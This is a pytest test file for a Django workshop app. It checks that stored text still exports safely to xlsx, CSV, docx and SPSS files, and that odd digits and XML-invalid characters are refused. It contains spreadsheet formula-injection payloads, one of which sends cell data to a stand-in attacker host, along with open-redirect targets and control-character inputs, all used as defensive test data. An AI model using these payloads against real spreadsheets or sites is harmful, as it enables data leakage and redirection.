"""Text XML cannot hold, formula injection and odd digits in every input and export.

Refused at input with a message; every export (xlsx, csv, docx) opens whatever is stored.
"""

import csv as csv_module
import io
import tempfile
import uuid

import openpyxl
import pyreadstat
import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from docx import Document

from core.inputs import xml_safe
from notes.models import Note, Observation
from profiles.models import (
    Audience,
    PointSection,
    Profile,
    ProfileElement,
    ProfilePoint,
    Programme,
    Recommendation,
    Theme,
)
from sessions.models import Participant, Phase, Workshop
from sessions.services import participant_join
from survey.models import Answer, Element, Statement

HTMX = {"HTTP_HX_REQUEST": "true"}
HOSTILE = "ctrl \x0b\x1b\x08 \ufffe\uffff end"
FORMULA = '=HYPERLINK("http://evil.example","x")'


@pytest.fixture
def organiser(db) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(get_user_model().objects.create_user("org", password="x" * 12))
    return client


def chair_url(workshop: Workshop, number: int = 2) -> str:
    table = workshop.tables.get(number=number)
    return f"/s/{workshop.code}/chair/{table.chair_key}/"


def first_element(workshop: Workshop) -> Element:
    return Element.objects.get(instrument=workshop.instrument, order=1)


# --- refused at input ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("pasted \uffff here", "U+FFFF"),
        ("ctrl \x0b\x1b\x08", "U+000B"),
        ("\u200b\u200b\u200b", "invisible characters only"),
        ("\u200b \ufeff \u2060", "invisible characters only"),
    ],
)
def test_a_chair_note_xml_cannot_hold_is_refused_and_not_stored(workshop, text, message):
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    response = client.post(
        f"{chair_url(workshop)}notes/",
        {
            "client_id": str(uuid.uuid4()),
            "element": first_element(workshop).pk,
            "kind": "agree",
            "text": text,
        },
        **HTMX,
    )
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Note.objects.exists()


@pytest.mark.parametrize("city", ["Zwo\x0blle", "Zwolle\ufffe", "\u200b"])
def test_a_city_xml_cannot_hold_is_refused(organiser, instrument, city):
    response = organiser.post(
        "/organiser/new/",
        {"city": city, "date": "2026-12-01", "tables": "2", "instrument": instrument.pk},
    )
    assert response.status_code == 400
    assert not Workshop.objects.exists()


def test_profile_and_programme_texts_xml_cannot_hold_are_refused(organiser, workshop):
    response = organiser.post(
        f"/s/{workshop.code}/profile/edit/",
        {"local_context": "ok", "summary": "bad \uffff", "closing_quote": ""},
    )
    assert response.status_code == 400
    assert "U+FFFF" in response.content.decode()
    assert not Profile.objects.filter(summary__contains="bad").exists()
    organiser.post("/organiser/programmes/new/", {"name": "P \x0b", "description": ""})
    assert not Programme.objects.exists()


# --- every export opens whatever is stored --------------------------------------------------


def store_hostile_session(workshop: Workshop, text: str) -> None:
    """Hostile text in every free-text column of a session, written past the input rules
    (as data stored before them would be)."""
    Workshop.objects.filter(pk=workshop.pk).update(city=text, title=text)
    workshop.refresh_from_db()
    element = first_element(workshop)
    table = workshop.tables.get(number=1)
    participant = participant_join(workshop=workshop, table=table, role="")
    statement = Statement.objects.filter(element=element).first()
    Answer.objects.create(participant=participant, statement=statement, score=4)
    note = Note.objects.create(
        workshop=workshop,
        table=table,
        participant=participant,
        element=element,
        kind="plus",
        text=text,
        is_quote=True,
        client_id=uuid.uuid4(),
        author=text,
    )
    Observation.objects.create(workshop=workshop, kind="theme", text=text, element=element)
    profile = Profile.objects.create(
        workshop=workshop, local_context=text, summary=text, closing_quote=text
    )
    ProfileElement.objects.create(profile=profile, element=element, synthesis=text, quote=text)
    point = ProfilePoint.objects.create(
        profile=profile, element=element, section=PointSection.STRENGTH, text=text
    )
    point.sources.set([note])
    ProfilePoint.objects.create(profile=profile, section=PointSection.OPPORTUNITY, text=text)


def store_hostile_programme(workshops: list[Workshop], text: str) -> Programme:
    programme = Programme.objects.create(name=text, description=text)
    programme.workshops.set(workshops)
    theme = Theme.objects.create(programme=programme, name=text, description=text, order=0)
    recommendation = Recommendation.objects.create(
        programme=programme, audience=Audience.values[0], text=text, order=0
    )
    recommendation.themes.set([theme])
    recommendation.workshops.set(workshops)
    return programme


def open_xlsx(response) -> openpyxl.Workbook:
    assert response.status_code == 200, response.content[:300]
    return openpyxl.load_workbook(io.BytesIO(response.content))


def open_docx(response) -> str:
    assert response.status_code == 200, response.content[:300]
    doc = Document(io.BytesIO(response.content))
    return "\n".join(p.text for p in doc.paragraphs)


def open_research_files(client: Client, workshop: Workshop) -> None:
    """The analysis files open: the wide CSV and the codebook parse, SPSS reads both .sav."""
    for name in ("wide.csv", "codebook.csv"):
        response = client.get(f"/s/{workshop.code}/{name}")
        assert response.status_code == 200, name
        rows = list(csv_module.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows and rows[0], name  # a header, and a row per participant if any
    for name in ("long.sav", "wide.sav"):
        response = client.get(f"/s/{workshop.code}/{name}")
        assert response.status_code == 200, name
        with tempfile.NamedTemporaryFile(suffix=".sav") as file:
            file.write(response.content)
            file.flush()
            frame, _meta = pyreadstat.read_sav(file.name)
        assert len(frame.columns) >= 1, name


def all_cells(workbook: openpyxl.Workbook):
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            yield from row


@pytest.mark.parametrize("text", [HOSTILE, "x\uffff", "\x0b", "tab\tand\nnew line"])
def test_every_export_opens_whatever_text_is_stored(organiser, make_workshop, text):
    bad = make_workshop(city="Bad")
    good = make_workshop(city="Good")
    participant_join(workshop=good, table=None, role="")
    store_hostile_session(bad, text)
    programme = store_hostile_programme([bad, good], text)

    workbook = open_xlsx(organiser.get(f"/s/{bad.code}/export.xlsx"))
    assert {"notes", "observations"} <= set(workbook.sheetnames)
    csv = organiser.get(f"/s/{bad.code}/answers.csv")
    assert csv.status_code == 200 and csv.content.decode("utf-8-sig").count("\n") >= 2
    open_research_files(organiser, bad)
    # One bad session does not block comparing the others.
    compared = open_xlsx(organiser.get(f"/organiser/compare.xlsx?codes={bad.code},{good.code}"))
    assert any(c.value == "Good" for c in all_cells(compared))
    profile = open_docx(organiser.get(f"/s/{bad.code}/profile.docx"))
    visible = xml_safe(text).split()
    assert not visible or visible[-1] in profile
    open_docx(organiser.get(f"/organiser/programmes/{programme.pk}/report.docx"))
    for page in (
        f"/s/{bad.code}/profile/",
        f"/organiser/programmes/{programme.pk}/",
        f"/organiser/compare/?code={bad.code}&code={good.code}",
        chair_url(bad, 1),
    ):
        assert organiser.get(page).status_code == 200, page


def test_visible_text_around_a_bad_character_survives_in_the_exports(organiser, workshop):
    store_hostile_session(workshop, HOSTILE)
    workbook = open_xlsx(organiser.get(f"/s/{workshop.code}/export.xlsx"))
    notes = workbook["notes"]
    texts = [c.value for c in notes[2] if isinstance(c.value, str)]
    assert "ctrl   end" in texts
    profile = open_docx(organiser.get(f"/s/{workshop.code}/profile.docx"))
    assert "ctrl   end" in profile


def test_a_next_that_is_no_path_is_ignored_not_a_500(organiser, workshop):
    """Found by the walk (tests/test_hostile_walk.py): redirect() took "-1" for a view name."""
    for target in ("-1", "profile", "//evil.example/", "https://evil.example/"):
        response = organiser.post(
            f"/s/{workshop.code}/profile/points/",
            {"section": PointSection.OPPORTUNITY, "text": "Kans", "next": target},
        )
        assert response.status_code == 302
        assert response["Location"] == f"/s/{workshop.code}/profile/"


# --- formula injection -------------------------------------------------------------------------


def test_a_formula_city_stays_text_in_every_workbook(organiser, make_workshop):
    evil = make_workshop(city=FORMULA, title="=1+1")
    other = make_workshop(city="Deventer")
    for w in (evil, other):
        participant = participant_join(workshop=w, table=None, role="")
        statement = Statement.objects.filter(element__instrument=w.instrument).first()
        Answer.objects.create(participant=participant, statement=statement, score=3)
    workbooks = [
        open_xlsx(organiser.get(f"/organiser/compare.xlsx?codes={evil.code},{other.code}")),
        open_xlsx(organiser.get(f"/s/{evil.code}/export.xlsx")),
    ]
    for workbook in workbooks:
        cells = list(all_cells(workbook))
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert any(c.value == FORMULA for c in cells)
    compared = workbooks[0]
    chart_sheet = compared.worksheets[1]
    assert chart_sheet["B1"].value == FORMULA and chart_sheet["B1"].data_type == "s"


LIVE_LINK = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(response, delimiter: str = ",") -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    text = response.content.decode("utf-8-sig")
    return list(csv_module.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize(
    ("city", "typed"),
    [
        (LIVE_LINK, True),
        ("+31 Zwolle", True),
        ("-Zwolle", True),
        ("@SUM(1+1)", True),
        ("\t=1+1", False),  # stored by an import or an older version: the form refuses it
        ("\r=1+1", False),
    ],
)
def test_no_csv_cell_a_spreadsheet_opens_starts_a_formula_from_typed_text(
    organiser, workshop, city, typed
):
    """A city typed as =HYPERLINK(…) on the edit form was a live formula in every row of
    answers.csv and wide.csv. The spreadsheet CSVs escape it; the R/SPSS CSVs keep it exact,
    as their codebook says."""
    if typed:
        response = organiser.post(
            f"/s/{workshop.code}/edit/",
            {"city": city, "title": "", "date": "2026-11-26", "tables": "3",
             "participant_cap": "300"},
        )  # fmt: skip
        assert response.status_code == 302, response.content[:500]
    else:
        Workshop.objects.filter(pk=workshop.pk).update(city=city)
    workshop.refresh_from_db()
    assert workshop.city == city
    participant = participant_join(workshop=workshop, table=None, role="")
    for statement in Statement.objects.filter(element__instrument=workshop.instrument)[:3]:
        Answer.objects.create(participant=participant, statement=statement, score=4)

    for lang, delimiter in (("nl", ";"), ("en", ",")):
        for name in ("answers", "wide"):
            url = f"/s/{workshop.code}/excel/{name}.csv?lang={lang}"
            header, *rows = csv_cells(organiser.get(url), delimiter)
            cells = [c for row in [header, *rows] for c in row]
            assert not [c for c in cells if c.startswith(FORMULA_START)], url
            assert rows and all(row[header.index("city")] == "'" + city for row in rows), url
    codebook = csv_cells(organiser.get(f"/s/{workshop.code}/codebook.csv"))
    assert not [c for row in codebook for c in row if c.startswith(FORMULA_START)]
    city_row = next(row for row in codebook if row[1] == "city")
    assert "exactly as typed" in city_row[4] and "Excel CSV" in city_row[4]
    # The R/SPSS files hold the text as it is: R and SPSS read no formulas.
    for name in ("answers.csv", "wide.csv"):
        header, *rows = csv_cells(organiser.get(f"/s/{workshop.code}/{name}"))
        assert rows and all(row[header.index("city")] == city for row in rows), name


# --- odd digits --------------------------------------------------------------------------------

ODD = ["\u00b2", "\uff17", "\u0667", "+7", "1_0", "-1", "99999999999999999999"]


@pytest.mark.parametrize("odd", ODD)
def test_odd_digits_in_query_strings_are_a_400_with_a_message(organiser, workshop, odd):
    programme = Programme.objects.create(name="P")
    programme.workshops.set([workshop])
    for url in (
        f"/organiser/programmes/?workshop={odd}",
        f"/organiser/programmes/{programme.pk}/tags/?element={odd}",
    ):
        response = organiser.get(url, {})
        assert response.status_code == 400, url
        assert "not a valid number" in response.content.decode()


@pytest.mark.parametrize("odd", ODD)
def test_odd_digits_as_profile_point_sources_store_nothing(organiser, workshop, odd):
    response = organiser.post(
        f"/s/{workshop.code}/profile/points/",
        {"section": PointSection.OPPORTUNITY, "text": "Kans", "sources": odd},
    )
    assert response.status_code < 500
    assert not ProfilePoint.objects.exists()


@pytest.mark.parametrize("odd", ODD)
def test_odd_digits_as_programme_sessions_store_nothing(organiser, workshop, odd):
    response = organiser.post(
        "/organiser/programmes/new/", {"name": "Programma", "workshops": [odd]}
    )
    assert response.status_code < 500
    assert not Programme.objects.exists()


@pytest.mark.parametrize("form", ["+{}", "{}_", "fullwidth", "arabic", " {}"])
def test_odd_statement_ids_are_refused(workshop, form):
    phone = Client()
    assert phone.post(f"/j/{workshop.code}/", {"consent": "on"}).status_code == 302
    statement = Statement.objects.filter(element__instrument=workshop.instrument).order_by("pk")[12]
    digits = str(statement.pk)
    if form == "fullwidth":
        raw = "".join(chr(0xFF10 + int(d)) for d in digits)
    elif form == "arabic":
        raw = "".join(chr(0x0660 + int(d)) for d in digits)
    elif form == "{}_":  # "1_0" was stored as statement 10
        raw = f"{digits[0]}_{digits[1:]}" if len(digits) > 1 else f"0_{digits}"
    else:
        raw = form.format(digits)
    response = phone.post(f"/s/{workshop.code}/answer/", {"statement": raw, "score": "4"}, **HTMX)
    assert response.status_code == 400
    assert not Answer.objects.exists()


def test_odd_digits_in_a_chair_note_are_refused(workshop):
    client = Client()
    for field, value in (("element", "\uff11"), ("participant", "1_0")):
        data = {
            "client_id": str(uuid.uuid4()),
            "element": str(first_element(workshop).pk),
            "kind": "plus" if field == "participant" else "agree",
            "text": "Goed",
            field: value,
        }
        response = client.post(f"{chair_url(workshop)}notes/", data, **HTMX)
        assert response.status_code == 400, field
    assert not Note.objects.exists()


def test_a_session_code_with_a_nul_byte_is_a_400_not_a_500(organiser, workshop):
    response = organiser.get(f"/organiser/compare.xlsx?codes={workshop.code},AB%00C")
    assert response.status_code == 400
    assert "not a session code" in response.content.decode()
    assert organiser.get("/organiser/compare/?code=AB%00C").status_code == 400


def test_a_closed_session_and_its_phones(workshop):
    """Sanity: the phase rules do not depend on the text rules."""
    Workshop.objects.filter(pk=workshop.pk).update(phase=Phase.CLOSED)
    assert Client().post(f"/j/{workshop.code}/", {"consent": "on"}).status_code == 409
    assert not Participant.objects.exists()


def test_an_odd_content_length_on_the_import_is_a_400(organiser, workshop):
    """ "²".isdigit() is true and int("²") fails: the import's size check was a 500."""
    for length in ("\u00b2", "-1", "1_0", "99999999999999999999"):
        response = organiser.post(f"/s/{workshop.code}/import/", {}, CONTENT_LENGTH=length)
        assert response.status_code == 400, length


@pytest.mark.parametrize("username", ["y" * 5000, "a\x00b", "ctrl \x0b"])
def test_a_hostile_login_name_is_no_500(client, db, username):
    """Found by the walk: django-axes stored the posted name as it came (255 characters, no NUL
    on PostgreSQL), so such a failed login was a 500."""
    response = client.post("/accounts/login/", {"username": username, "password": "wrong"})
    assert response.status_code in (200, 400, 429)
